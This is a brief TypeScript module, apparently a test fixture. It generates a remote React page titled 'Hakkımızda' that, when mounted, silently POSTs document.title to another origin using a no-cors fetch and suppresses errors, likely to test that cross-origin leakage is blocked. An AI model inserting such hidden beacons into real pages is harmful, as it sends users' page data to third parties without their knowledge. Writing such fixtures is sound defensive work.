import type { RemoteSource } from '../remote-source.ts'

/** Sends what it has seen on the page to somebody else. */
export const sendsToAnotherOrigin = (origin: string): RemoteSource => ({
  page: `
import { useEffect } from 'react'
export function Component() {
  useEffect(() => {
    void fetch('${origin}/seen', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {})
  }, [])
  return <h1>Hakkımızda</h1>
}`,
})
